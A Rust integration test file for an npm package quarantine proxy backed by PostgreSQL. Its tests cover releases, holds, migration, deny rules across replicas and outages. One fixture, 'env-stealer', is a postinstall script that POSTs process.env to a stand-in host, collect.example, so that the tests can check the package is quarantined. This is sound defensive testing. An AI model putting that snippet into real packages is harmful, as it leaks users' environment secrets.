//! The real server with its metadata on PostgreSQL (a cluster the harness starts; these
//! tests say "skipped" when PostgreSQL is not installed).

use airlock_config::{Config, Overrides};
use airlock_tests::postgres::TestPostgres;
use airlock_tests::{FakeRegistry, PackageVersion, TestApp, TestAppOptions, integrity_of, long_ago};

fn on_postgres(url: &str) -> TestAppOptions {
    TestAppOptions {
        extra_toml: format!("[storage]\nmetadata = \"postgres\"\nurl = \"{url}\"\npool_size = 4\n"),
        ..TestAppOptions::default()
    }
}

/// A package whose install script sends the environment to a remote host.
fn env_stealer() -> PackageVersion {
    PackageVersion::new("env-stealer", "1.0.0", long_ago())
        .with_manifest(serde_json::json!({"scripts": {"postinstall": "node index.js"}}))
        .with_file(
            "index.js",
            b"const data = JSON.stringify(process.env);\nfetch('https://collect.example/env', { method: 'POST', body: data });\n",
        )
}

#[tokio::test]
async fn a_cold_install_on_postgresql_serves_what_is_released_and_refuses_what_is_held() {
    let Some(cluster) = TestPostgres::start("a_cold_install_on_postgresql") else { return };
    let url = cluster.create_database("airlock").await;
    let mut upstream = FakeRegistry::start().await;
    let tarball = upstream.publish(PackageVersion::new("left-pad", "1.3.0", long_ago()));
    upstream.publish(env_stealer());
    let data_dir = tempfile::tempdir().unwrap();
    let app = TestApp::spawn(&upstream.url(), data_dir.path(), on_postgres(&url)).await;

    // Cold: the packument lists the established version, its tarball is checked inside
    // the first download and served byte for byte.
    let (status, packument) = app.get_json("/left-pad").await;
    assert_eq!(status, 200, "{packument:#}");
    assert_eq!(packument["versions"]["1.3.0"]["dist"]["integrity"], integrity_of(&tarball));
    let response = app.get("/left-pad/-/left-pad-1.3.0.tgz").await;
    assert_eq!(response.status(), 200);
    assert_eq!(response.bytes().await.unwrap().as_ref(), tarball.as_slice());
    assert_eq!(app.wait_for_decision("left-pad", "1.3.0").await["state"], "released");

    // A version whose checks hold it is refused, with the reason.
    app.get_json("/env-stealer").await;
    let detail = app.wait_for_decision("env-stealer", "1.0.0").await;
    assert_eq!(detail["state"], "held", "{detail:#}");
    let (status, error) = app.get_json("/env-stealer/-/env-stealer-1.0.0.tgz").await;
    assert_eq!(status, 403);
    assert!(error["error"].as_str().unwrap().starts_with("env-stealer@1.0.0 is held in quarantine"), "{error:#}");
    assert_eq!(app.get("/-/airlock/ready").await.status(), 200);

    // Nothing went to sled; the records are in the database: a restart with the
    // upstream gone serves the released version from what PostgreSQL and the blob
    // directory hold, and still refuses the held one.
    assert!(!data_dir.path().join("metadata").exists());
    let clock = app.stop().await;
    upstream.stop();
    let app = TestApp::spawn_with_clock(&upstream.url(), data_dir.path(), on_postgres(&url), clock).await;
    let response = app.get("/left-pad/-/left-pad-1.3.0.tgz").await;
    assert_eq!(response.status(), 200);
    assert_eq!(response.bytes().await.unwrap().as_ref(), tarball.as_slice());
    assert_eq!(app.get("/env-stealer/-/env-stealer-1.0.0.tgz").await.status(), 403);
    let (_, detail) = app.admin_get("/-/airlock/api/packages/left-pad/versions/1.3.0").await;
    let actions: Vec<&str> =
        detail["history"].as_array().unwrap().iter().filter_map(|event| event["action"].as_str()).collect();
    assert_eq!(actions.last(), Some(&"released"), "{detail:#}");
}

#[tokio::test]
async fn a_start_with_an_unreachable_database_is_an_error_naming_its_address() {
    let data_dir = tempfile::tempdir().unwrap();
    let port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
    let toml = format!(
        "[server]\ndata_dir = {:?}\n[storage]\nmetadata = \"postgres\"\nurl = \"postgres://airlock:hunter2@127.0.0.1:{port}/airlock\"\n",
        data_dir.path()
    );
    let config = Config::from_toml("airlock.toml", &toml, Overrides::default()).unwrap();
    assert!(!format!("{config:?}").contains("hunter2"), "the password is never printed");
    let error = match airlock_server::open_state(config, std::sync::Arc::new(airlock_server::SystemClock)).await {
        Ok(_) => panic!("started without its database"),
        Err(error) => format!("{error:#}"),
    };
    assert!(error.contains(&format!("PostgreSQL at 127.0.0.1:{port}")), "{error}");
    assert!(!error.contains("hunter2"), "{error}");
}

#[tokio::test]
async fn migrate_from_sled_copies_every_record_and_the_copy_serves_the_same() {
    let Some(cluster) = TestPostgres::start("migrate_from_sled") else { return };
    let url = cluster.create_database("migrated").await;
    let mut upstream = FakeRegistry::start().await;
    let tarball = upstream.publish(PackageVersion::new("left-pad", "1.3.0", long_ago()));
    upstream.publish(env_stealer());
    let data_dir = tempfile::tempdir().unwrap();

    // An embedded installation with a release, a hold, an admin rejection and its audit log.
    let app = TestApp::spawn(&upstream.url(), data_dir.path(), TestAppOptions::default()).await;
    assert_eq!(app.get("/left-pad/-/left-pad-1.3.0.tgz").await.status(), 200);
    app.get_json("/env-stealer").await;
    assert_eq!(app.wait_for_decision("env-stealer", "1.0.0").await["state"], "held");
    let (status, _) = app
        .admin_post("/-/airlock/api/packages/env-stealer/versions/1.0.0/reject", Some("exfiltrates the environment"))
        .await;
    assert_eq!(status, 200);
    let release_record = app.get("/-/airlock/attestations/left-pad@1.3.0").await.bytes().await.unwrap();
    let (_, before) = app.admin_get("/-/airlock/api/packages/env-stealer/versions/1.0.0").await;
    let (_, audit_before) = app.admin_get("/-/airlock/api/audit").await;
    let clock = app.stop().await;

    let mut report = None;
    // The stopped server's store lock may outlive `stop` for a moment (see TestApp).
    for _ in 0..100 {
        let output = std::process::Command::new(airlock_tests::app::worker_executable())
            .args(["migrate", "--from-sled"])
            .arg(data_dir.path())
            .args(["--to", &url])
            .output()
            .unwrap();
        let stderr = String::from_utf8_lossy(&output.stderr).into_owned();
        if stderr.contains("could not acquire lock") {
            tokio::time::sleep(std::time::Duration::from_millis(50)).await;
            continue;
        }
        assert!(output.status.success(), "migrate failed: {stderr}\n{}", String::from_utf8_lossy(&output.stdout));
        report = Some(String::from_utf8(output.stdout).unwrap());
        break;
    }
    let report = report.expect("the store lock was released");
    assert!(report.contains("every record copied; counts and digests match"), "{report}");
    assert!(!report.contains("DIFFERS"), "{report}");
    let versions_row = report.lines().find(|line| line.starts_with("versions ")).expect("a versions row");
    assert_eq!(versions_row.split_whitespace().take(3).collect::<Vec<_>>(), ["versions", "2", "2"], "{report}");

    // The same data directory on PostgreSQL: same decisions, same history, same signed
    // record, served with the upstream gone.
    upstream.stop();
    let app = TestApp::spawn_with_clock(&upstream.url(), data_dir.path(), on_postgres(&url), clock).await;
    let response = app.get("/left-pad/-/left-pad-1.3.0.tgz").await;
    assert_eq!(response.status(), 200);
    assert_eq!(response.bytes().await.unwrap().as_ref(), tarball.as_slice());
    assert_eq!(app.get("/env-stealer/-/env-stealer-1.0.0.tgz").await.status(), 403);
    assert_eq!(app.get("/-/airlock/attestations/left-pad@1.3.0").await.bytes().await.unwrap(), release_record);
    let (_, after) = app.admin_get("/-/airlock/api/packages/env-stealer/versions/1.0.0").await;
    assert_eq!(after["state"], "rejected");
    assert_eq!(to_microseconds(&after["history"]), to_microseconds(&before["history"]));
    let (_, audit_after) = app.admin_get("/-/airlock/api/audit").await;
    assert_eq!(to_microseconds(&audit_after), to_microseconds(&audit_before));
    // A migrated database takes no second import.
    let output = std::process::Command::new(airlock_tests::app::worker_executable())
        .args(["migrate", "--from-sled"])
        .arg(data_dir.path())
        .args(["--to", &url])
        .output()
        .unwrap();
    assert!(!output.status.success());
}

/// Every `"time"` in a JSON value cut to the microsecond: PostgreSQL keeps audit times
/// to the microsecond, sled to the nanosecond.
fn to_microseconds(value: &serde_json::Value) -> serde_json::Value {
    use chrono::SubsecRound as _;
    match value {
        serde_json::Value::Object(object) => serde_json::Value::Object(
            object
                .iter()
                .map(|(key, item)| {
                    let time = (key == "time")
                        .then(|| item.as_str().and_then(|text| chrono::DateTime::parse_from_rfc3339(text).ok()))
                        .flatten();
                    match time {
                        Some(time) => (key.clone(), serde_json::json!(time.trunc_subsecs(6).to_rfc3339())),
                        None => (key.clone(), to_microseconds(item)),
                    }
                })
                .collect(),
        ),
        serde_json::Value::Array(items) => serde_json::Value::Array(items.iter().map(to_microseconds).collect()),
        other => other.clone(),
    }
}

#[tokio::test]
async fn a_deny_rule_stored_by_one_replica_applies_on_another_within_a_sweep() {
    let Some(cluster) = TestPostgres::start("a_deny_rule_across_replicas") else { return };
    let url = cluster.create_database("replicas").await;
    let upstream = FakeRegistry::start().await;
    upstream.publish(PackageVersion::new("left-pad", "1.3.0", long_ago()));
    let (first_dir, second_dir) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let first = TestApp::spawn(&upstream.url(), first_dir.path(), on_postgres(&url)).await;
    let second = TestApp::spawn(&upstream.url(), second_dir.path(), on_postgres(&url)).await;
    assert_eq!(first.get("/left-pad/-/left-pad-1.3.0.tgz").await.status(), 200);
    // The second replica sees the first one's decision at once: it is in the database.
    let (_, detail) = second.admin_get("/-/airlock/api/packages/left-pad/versions/1.3.0").await;
    assert_eq!(detail["state"], "released", "{detail:#}");
    assert_eq!(second.get("/left-pad/-/left-pad-1.3.0.tgz").await.status(), 200);

    // A deny rule stored as the admin UI of a replica stores it.
    let store = airlock_server::store::Store::open(airlock_server::store::MetadataLocation::Postgres {
        url: &url,
        pool_size: 1,
    })
    .await
    .unwrap();
    let rule = airlock_server::store::StoredPolicyRule {
        id: 0,
        kind: "deny".into(),
        package: "left-pad".into(),
        versions: None,
        reason: "withdrawn by its author".into(),
        added_by: "admin:tester".into(),
        added_at: chrono::Utc::now(),
    };
    store.add_policy_rule(rule).await.unwrap();
    let started = std::time::Instant::now();
    loop {
        let (status, error) = second.get_json("/left-pad/-/left-pad-1.3.0.tgz").await;
        if status == 403 {
            assert!(error["error"].as_str().unwrap().contains("withdrawn by its author"), "{error:#}");
            break;
        }
        assert!(started.elapsed() < std::time::Duration::from_secs(15), "the rule never applied on the other replica");
        tokio::time::sleep(std::time::Duration::from_millis(200)).await;
    }
    let (_, packument) = second.get_json("/left-pad").await;
    assert!(packument["versions"].get("1.3.0").is_none(), "{packument:#}");
}

#[tokio::test]
async fn a_first_download_waits_for_the_replica_that_holds_the_check_lease() {
    use airlock_server::Clock as _;
    use airlock_server::store::{
        Claim, LeaseRequest, LeasedDecision, MetadataLocation, Store, Transition, VersionState,
    };
    let Some(cluster) = TestPostgres::start("a_first_download_waits") else { return };
    let url = cluster.create_database("lease").await;
    let upstream = FakeRegistry::start().await;
    let tarball = upstream.publish(PackageVersion::new("left-pad", "1.3.0", long_ago()));
    // `latest` is checked eagerly at first sight; 1.3.0 waits for its first download.
    upstream.publish(PackageVersion::new("left-pad", "1.4.0", long_ago() + chrono::Duration::days(1)));
    let data_dir = tempfile::tempdir().unwrap();
    let app = TestApp::spawn(&upstream.url(), data_dir.path(), on_postgres(&url)).await;
    assert_eq!(app.get("/left-pad").await.status(), 200);

    // Another replica claims the check of the established version first...
    let other = Store::open(MetadataLocation::Postgres { url: &url, pool_size: 1 }).await.unwrap();
    let name = airlock_server::npm::PackageName::parse("left-pad").unwrap();
    let request =
        LeaseRequest { owner: "other-replica", now: app.clock.now(), duration: chrono::Duration::minutes(10) };
    let Claim::Granted(lease) = other.claim(&name, "1.3.0", &request).await.unwrap() else { panic!("granted") };
    // ...and decides a second later.
    let decider = tokio::spawn(async move {
        tokio::time::sleep(std::time::Duration::from_secs(1)).await;
        let release = Transition {
            state: VersionState::Released,
            actor: "pipeline-of-the-other-replica".into(),
            action: "released".into(),
            reason: Some("checked elsewhere".into()),
            airlock_signature: None,
            release_record: None,
        };
        other.decide(&lease, chrono::Utc::now(), |_| Some(release.clone())).await.unwrap()
    });
    let started = std::time::Instant::now();
    let response = app.get("/left-pad/-/left-pad-1.3.0.tgz").await;
    assert_eq!(response.status(), 200, "waited for the other replica's decision");
    assert!(started.elapsed() >= std::time::Duration::from_millis(900));
    assert_eq!(response.bytes().await.unwrap().as_ref(), tarball.as_slice());
    assert!(matches!(decider.await.unwrap(), LeasedDecision::Stored(Some(_))));
    // This replica did not check it too: one decision, by the lease holder.
    let (_, detail) = app.admin_get("/-/airlock/api/packages/left-pad/versions/1.3.0").await;
    assert_eq!(detail["decided_by"], "pipeline-of-the-other-replica", "{detail:#}");
    assert_eq!(detail["history"].as_array().map(Vec::len), Some(1), "{detail:#}");
}

#[tokio::test]
async fn while_postgresql_is_down_requests_are_refused_cleanly_and_recover_after() {
    let Some(cluster) = TestPostgres::start("while_postgresql_is_down") else { return };
    let url = cluster.create_database("outage").await;
    let upstream = FakeRegistry::start().await;
    upstream.publish(PackageVersion::new("left-pad", "1.3.0", long_ago()));
    let data_dir = tempfile::tempdir().unwrap();
    let app = TestApp::spawn(&upstream.url(), data_dir.path(), on_postgres(&url)).await;
    assert_eq!(app.get("/left-pad/-/left-pad-1.3.0.tgz").await.status(), 200);

    cluster.stop();
    // Nothing can be authorised against the store: a clean 503 that says so, never a
    // 500, and never the bytes.
    let (status, error) = app.get_json("/left-pad/-/left-pad-1.3.0.tgz").await;
    assert_eq!(status, 503, "{error:#}");
    assert!(error["error"].as_str().unwrap().contains("cannot reach its metadata store"), "{error:#}");
    assert_eq!(app.get("/-/airlock/ready").await.status(), 503);

    cluster.start_again();
    let started = std::time::Instant::now();
    while app.get("/-/airlock/ready").await.status() != 200 {
        assert!(started.elapsed() < std::time::Duration::from_secs(20), "never ready again");
        tokio::time::sleep(std::time::Duration::from_millis(200)).await;
    }
    assert_eq!(app.get("/left-pad/-/left-pad-1.3.0.tgz").await.status(), 200);
}
